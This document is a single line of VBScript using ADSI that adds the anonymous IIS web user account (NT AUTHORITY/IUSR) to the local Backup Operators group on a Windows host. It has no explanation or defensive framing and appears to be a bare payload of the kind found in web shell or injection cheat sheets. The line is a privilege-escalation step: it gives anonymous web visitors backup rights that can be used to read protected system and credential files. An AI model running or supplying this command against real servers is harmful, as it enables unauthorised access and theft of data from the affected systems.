GetObject("WinNT://./Backup Operators,group").Add "WinNT://NT AUTHORITY/IUSR"
